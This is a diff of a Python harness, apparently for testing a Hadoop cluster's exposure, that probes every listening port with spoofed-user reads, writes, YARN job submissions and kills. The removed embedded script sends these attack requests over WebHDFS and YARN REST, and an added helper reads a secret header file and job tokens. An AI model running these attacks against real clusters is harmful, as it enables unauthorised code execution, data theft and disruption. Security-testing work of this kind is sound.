@@ -1,96 +1,63 @@
 """
-An attacker: tries every listening port of a cluster with a submission, a read, a write and a kill.
+An attack on every listening port of a cluster: submissions, reads, writes and kills.
 
-A *vantage* makes command lines run somewhere: as another user of this machine, on a third host.
-What succeeded is named by port; `Knowledge` is what the attacker is given beside it: all that an
-insider could have said, but the secret.  Hadoop asks nobody who he is: the attacker says that he is
-the user whose cluster it is.
+A *vantage* runs a command somewhere and answers its output: as another user of this machine, on a
+third host, in a container.  `Knowledge` is what the attacker is given: all that an insider could
+have said, but the secret.  Hadoop asks nobody who he is: the attacker says that he is the user who
+owns the cluster.
 """
 
+import base64
 import json
 import os
 import pwd
 import re
+import shutil
 import subprocess
 import sys
+import tempfile
+import threading
 
 from collections.abc import Callable, Sequence
 from contextlib import contextmanager
-from dataclasses import asdict, dataclass, replace
+from dataclasses import asdict, dataclass, field, replace
+from functools import cache
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
+
+from harness.hadoop_home.home import HadoopHome
 
 HERE = Path(__file__).parent
 LIVE = HERE.parent / "live"
-LIMIT_S = 280
-ALL_TRIED = "all were tried"
+LIMIT_S = 540
 STRANGER = "daemon"  # Java's login needs one who has an entry, and runs nothing of ours
+LISTENS = "0A"
 
-Vantage = Callable[[Sequence[str]], list[str]]
-Ports = Sequence[tuple[str, int]]
-
-# One argument, JSON; prints {"HOST:PORT": [what succeeded]} of those that could be connected to.
-BY_HTTP = r"""
-import http.client, json, socket, sys
-from concurrent.futures import ThreadPoolExecutor
-
-known = json.loads(sys.argv[1])
-app, file, user = known["application"], known["file"], known["user"]
-job = app.replace("application", "job")
-new = json.dumps({"application-id": app[:-4] + "9999", "application-name": "stolen",
-    "application-type": "YARN", "am-container-spec": {"commands": {"command": "id"}},
-    "resource": {"memory": 64, "vCores": 1}})
-tries = [
-    *(("read " + path, "GET", path, None) for path in (
-        "/jmx", "/conf", "/logs/", "/stacks", "/cluster", "/ws/v1/cluster/apps",
-        "/ws/v1/cluster/nodes", "/ws/v1/history/mapreduce/jobs", "/ws/v1/node/containers",
-        "/ws/v1/mapreduce/jobs", "/node/allContainers", "/proxy/" + app + "/",
-        "/webhdfs/v1/?op=LISTSTATUS&user.name=" + user,
-        "/webhdfs/v1" + file + "?op=OPEN&user.name=" + user,
-        "/webhdfs/v1" + file + "?op=OPEN&offset=0&user.name=" + user + "&namenoderpcaddress="
-        + known["namenode"],
-        "/mapOutput?job=" + job + "&reduce=0&map=attempt" + job[3:] + "_m_000000_0")),
-    ("write", "PUT", "/webhdfs/v1/stolen-by-http?op=MKDIRS&user.name=" + user, b""),
-    ("new application", "POST", "/ws/v1/cluster/apps/new-application?user.name=" + user, b""),
-    ("submit", "POST", "/ws/v1/cluster/apps?user.name=" + user, new),
-]
-if known["kills"]:
-    kill = "/ws/v1/cluster/apps/" + app + "/state?user.name=" + user
-    tries.append(("kill", "PUT", kill, json.dumps({"state": "KILLED"})))
-
-def attack(place):
-    host, port = place
+# The status of each of several requests: address, port, path, headers.
+REQUESTS = """
+import http.client, json, sys
+statuses = []
+for address, port, path, headers in json.loads(sys.argv[1]):
+    connection = http.client.HTTPConnection(address, port, timeout=30)
     try:
-        socket.create_connection((host, port), 2).close()
-    except OSError:
-        return place, None
-    succeeded = []
-    for what, method, path, body in tries:
-        connection = http.client.HTTPConnection(host, port, timeout=6)
-        try:
-            headers = {"Content-Type": "application/json", "Accept": "*/*"}
-            if known["header"]:
-                headers[known["header"][0]] = known["header"][1]
-            connection.request(method, path, body, headers)
-            # 307: a NameNode says which DataNode gives the file
-            if connection.getresponse().status in (200, 201, 202, 307):
-                succeeded.append("http: " + what)
-        except (OSError, http.client.HTTPException):
-            pass
-        finally:
-            connection.close()
-    return place, succeeded
-
-with ThreadPoolExecutor(8) as pool:
-    attacked = list(pool.map(attack, known["ports"]))
-print(json.dumps({"%s:%d" % tuple(place): what for place, what in attacked if what is not None}))
+        connection.request("GET", path, headers=headers)
+        statuses.append(connection.getresponse().status)
+    except (OSError, http.client.HTTPException):
+        statuses.append(0)
+    connection.close()
+print(json.dumps(statuses))
 """
+
+Vantage = Callable[[Sequence[str]], str]
+Places = Sequence[tuple[str, int]]
 
 
 @dataclass(frozen=True)
 class Knowledge:
     """
     What the attacker knows of a cluster: a running application, a file of HDFS and a block of it
-    (pool, id and generation), the NameNode's RPC address; whether he may kill; a header, if any.
+    (pool, id and generation), the NameNode's RPC address; of an insider also the header with the
+    secret, and the file with the job's tokens.
     """
 
     application: str
@@ -98,81 +65,146 @@ class Knowledge:
     block: dict
     namenode: str
     user: str = "hadoop"
-    kills: bool = True
-    header: tuple[str, str] | None = None
+    header: dict = field(default_factory=dict)
+    tokens: str = ""
 
 
-def attack(
-    ports: Ports, vantage: Vantage, known: Knowledge, java: Sequence[str]
-) -> dict[str, list[str]]:
+@dataclass(frozen=True)
+class Tools:
     """
-    What succeeded at each port that could be connected to; *java* starts a JVM with Hadoop's jars.
+    What the attack takes at a vantage: Python, Java, Hadoop's jars.
     """
-    facts = {**asdict(known), "ports": [list(place) for place in ports]}
-    python = os.path.realpath(sys.executable)
-    by_port = json.loads(run(vantage([python, "-I", "-S", "-c", BY_HTTP, json.dumps(facts)])))
-    if by_port:
-        knowledge_file = run(["mktemp", "--suffix=.json"]).strip()
-        Path(knowledge_file).write_text(json.dumps(asdict(known)))
-        Path(knowledge_file).chmod(0o644)
-        environment = ["env", f"HADOOP_USER_NAME={known.user}", "HOME=/tmp"]
-        source = str(HERE / "Attack.java")
-        output = run(vantage([*environment, *java, source, knowledge_file, *by_port]))
-        Path(knowledge_file).unlink()
-        assert ALL_TRIED in output, output
-        for line in output.splitlines():
-            place, _, what = line.partition(" ")
-            if place in by_port:
-                by_port[place].append(what)
-    return by_port
+
+    python: str
+    java: str
+    jars: str
 
 
-def succeeded(by_port: dict[str, list[str]]) -> dict[str, list[str]]:
+@dataclass(frozen=True)
+class Outsider:
     """
-    Ports at which something did.
+    One who attacks: his vantage, what he tries, and by what address he reaches this machine.
     """
-    return {place: what for place, what in by_port.items() if what}
+
+    vantage: Vantage
+    places: Places
+    tools: Tools
+    machine: str = "127.0.0.1"
+
+
+@dataclass(frozen=True)
+class Outcome:
+    """
+    How many tries there were; the ports that answered with any byte, as "HOST:PORT"; what succeeded
+    at each.
+    """
+
+    tries: int
+    answered: list[str]
+    succeeded: dict[str, list[str]]
+
+    @property
+    def kinds(self) -> set[str]:
+        """
+        What succeeded anywhere.
+        """
+        return {what for names in self.succeeded.values() for what in names}
+
+
+def attack(places: Places, vantage: Vantage, known: Knowledge, tools: Tools) -> Outcome:
+    """
+    Try all that there is to try at each of *places*.
+    """
+    facts = {
+        "ports": places, "known": asdict(known), "classes": classes(), "jars": tools.jars,
+        "java": [tools.java, "-XX:TieredStopAtLevel=1"],
+    }  # fmt: skip
+    program = (HERE / "attacker.py").read_text()
+    output = vantage([tools.python, "-I", "-S", "-c", program, json.dumps(facts)])
+    return Outcome(**json.loads(output.splitlines()[-1]))
+
+
+@cache
+def classes() -> str:
+    """
+    `Attack.java` as a jar, in base64: where it runs there may be no compiler.
+    """
+    home = HadoopHome.find()
+    with tempfile.TemporaryDirectory() as folder:
+        javac = [f"{home.java.home}/bin/javac", "-cp", str(home.path_jar), "-d", f"{folder}/made"]
+        run([*javac, str(HERE / "Attack.java")])
+        jar = shutil.make_archive(f"{folder}/attack", "zip", f"{folder}/made")
+        return base64.b64encode(Path(jar).read_bytes()).decode()
+
+
+def statuses(requests: Sequence[tuple], vantage: Vantage, python: str) -> list[int]:
+    """
+    How web services answer requests (address, port, path, headers): HTTP's status, or 0.
+    """
+    return json.loads(vantage([python, "-I", "-S", "-c", REQUESTS, json.dumps(requests)]))
+
+
+@contextmanager
+def open_service():
+    """
+    A web service of this machine that answers everybody, and its port.
+    """
+
+    class Answer(BaseHTTPRequestHandler):
+        def do_GET(self):
+            self.send_response(200)
+            self.end_headers()
+
+        def log_message(self, *_):
+            pass
+
+    with ThreadingHTTPServer(("", 0), Answer) as server:
+        thread = threading.Thread(target=server.serve_forever)
+        thread.start()
+        yield server.server_port
+        server.shutdown()
+        thread.join()
 
 
 def run(argv: Sequence[str]) -> str:
     """
-    Standard output of a command that succeeds.
+    Standard output of a command that succeeds; also a vantage, that of this process.
     """
     done = subprocess.run(argv, capture_output=True, text=True, timeout=LIMIT_S, check=False)
-    assert done.returncode == 0, (argv[:6], done.stdout[-2000:], done.stderr[-2000:])
+    assert done.returncode == 0, (done.args[:6], done.stdout[-2000:], done.stderr[-2000:])
     return done.stdout
 
 
-def listening(process_ids: Sequence[int]) -> list[tuple[str, int]]:
+def on(host) -> Vantage:
     """
-    Address and port of each socket that one of these processes of this machine listens on.
+    A node of a cluster, under the account of its commands.
     """
-    places = set()
-    for process_id in process_ids:
-        entry = Path(f"/proc/{process_id}")
-        try:
-            links = [str(link.readlink()) for link in (entry / "fd").iterdir()]
-            tables = [(entry / "net" / table).read_text() for table in ("tcp", "tcp6")]
-        except OSError:  # it has ended
-            continue
-        inodes = {
-            matched[1] for link in links if (matched := re.fullmatch(r"socket:\[(\d+)\]", link))
-        }
-        for line in "".join(tables).splitlines():
-            columns = line.split()
-            if len(columns) > 9 and columns[3] == "0A" and columns[9] in inodes:
-                address, _, port = columns[1].partition(":")
-                places.add(("loopback" if address.endswith("0100007F") else "", int(port, 16)))
-    return sorted(places)
+
+    def run_there(argv: Sequence[str]) -> str:
+        done = host.run(argv, LIMIT_S)
+        assert done.status == 0, (argv[:6], done.out[-2000:], done.err[-2000:])
+        return done.out
+
+    return run_there
 
 
-def stranger(needed: Sequence[Path]) -> Vantage:
+def tools_here(home: HadoopHome) -> Tools:
     """
-    Another user of this machine, to whom these folders are shown, wherever they lie (as root).
+    Those of this machine.
     """
+    return Tools(os.path.realpath(sys.executable), home.java.launcher, str(home.path_jar))
+
+
+def stranger(home: HadoopHome, before: Sequence[str] = ()) -> Vantage:
+    """
+    Another user of this machine, to whom tools are shown wherever they lie (as root); after
+    *before*, which may lead into another network.
+    """
+    needed = map(str, (home.path, home.java.home, sys.base_prefix))
     reached = ["unshare", "-m", "--propagation", "private", sys.executable]
-    show = [str(LIVE / "as_nobody.py"), *map(str, needed), "--"]
-    return lambda argv: ["env", f"AS_USER={pwd.getpwnam(STRANGER).pw_uid}", *reached, *show, *argv]
+    user = f"AS_USER={pwd.getpwnam(STRANGER).pw_uid}"
+    as_user = ["env", user, *reached, str(LIVE / "as_nobody.py"), *needed, "--"]
+    return lambda argv: run([*before, *as_user, *argv])
 
 
 @contextmanager
@@ -180,7 +212,8 @@ def third_host():
     """
     A host beside this machine, which it reaches by one address: a vantage, and that address.
     """
-    name, here, there = f"third{os.getpid() % 10_000}", "198.19.250.1", "198.19.250.2"
+    number = os.getpid() % 63 * 4
+    name, here, there = (f"third{number}", *(f"198.19.255.{number + end}" for end in (1, 2)))
     commands = (
         f"ip netns add {name}",
         f"ip link add {name} type veth peer name eth0 netns {name}",
@@ -190,31 +223,74 @@ def third_host():
         f"ip -n {name} link set eth0 up",
         f"ip -n {name} link set lo up",
         f"ip -n {name} route add default via {here}",
-        # addresses of clusters with networks of their own lead nowhere, and not out of the machine
-        f"ip route append 198.18.0.0/24 dev {name}",
+        # to addresses of clusters there is no way, unless this machine has a better one: not that
+        # of its gateway, which may accept connections to whatever address
+        f"ip route add 198.18.0.0/15 dev {name} metric {100_000 + number}",
     )
     try:
         for command in commands:
             run(command.split())
-        yield (lambda argv: ["ip", "netns", "exec", name, *argv]), here
+        yield (lambda argv: run(["ip", "netns", "exec", name, *argv])), here
     finally:
         for command in (f"ip link del {name}", f"ip netns del {name}"):
             subprocess.run(command.split(), capture_output=True, check=False)
 
 
-def block_below(folder: Path) -> dict:
+def listening(vantage: Vantage) -> list[int]:
     """
-    A block of a DataNode whose data lie in *folder*: what stands in its path.
+    Ports that anything listens to in the network of a vantage.
     """
-    meta = next(folder.rglob("finalized/**/blk_*.meta"))
-    pool = next(part for part in meta.parts if part.startswith("BP-"))
-    identity, generation = re.fullmatch(r"blk_(\d+)_(\d+)\.meta", meta.name).groups()
+    return sorted({port for port, _ in listed(vantage(["sh", "-c", "cat /proc/net/tcp*"]))})
+
+
+def listening_by(process_ids: Sequence[int]) -> list[int]:
+    """
+    Ports that one of these processes of this machine listens to.
+    """
+    ports = set()
+    for process_id in process_ids:
+        entry = Path(f"/proc/{process_id}")
+        try:
+            links = {str(link.readlink()) for link in (entry / "fd").iterdir()}
+            tables = [(entry / "net" / table).read_text() for table in ("tcp", "tcp6")]
+        except OSError:  # it has ended
+            continue
+        sockets = listed("".join(tables))
+        ports |= {port for port, inode in sockets if f"socket:[{inode}]" in links}
+    return sorted(ports)
+
+
+def listed(tables: str) -> set[tuple[int, str]]:
+    """
+    Port and inode of each listening socket in the kernel's tables.
+    """
+    rows = [line.split() for line in tables.splitlines()]
+    rows = [row for row in rows if len(row) > 9 and row[3] == LISTENS]
+    return {(int(row[1].rpartition(":")[2], 16), row[9]) for row in rows}
+
+
+def block_on(vantage: Vantage, data: str) -> dict:
+    """
+    A block of the DataNode whose data lie in the folder *data*: what stands in its path.
+    """
+    path = first_file(vantage, data, "*/finalized/*/blk_*.meta")
+    pool = next(part for part in path.split("/") if part.startswith("BP-"))
+    identity, generation = re.search(r"/blk_(\d+)_(\d+)\.meta$", path).groups()
     return {"pool": pool, "id": int(identity), "generation": int(generation)}
 
 
-def with_secret(known: Knowledge, file: Path) -> Knowledge:
+def as_insider(known: Knowledge, vantage: Vantage, secret: str, data: str) -> Knowledge:
     """
-    What one knows who may read the secret; he kills nothing.
+    What one knows who may read the file *secret* of a worker, and the data of its nodes.
     """
-    header, _, value = file.read_text().strip().partition(": ")
-    return replace(known, header=(header, value), kills=False)
+    header, _, value = vantage(["cat", secret]).strip().partition(": ")
+    tokens = first_file(vantage, data, f"*/{known.application}/*/container_tokens")
+    return replace(known, header={header: value}, tokens=tokens)
+
+
+def first_file(vantage: Vantage, folder: str, pattern: str) -> str:
+    """
+    Path of a file below a folder.
+    """
+    # from a folder that its account may enter, or it cannot go back there
+    return vantage(["env", "-C", folder, "find", folder, "-path", pattern]).split()[0]
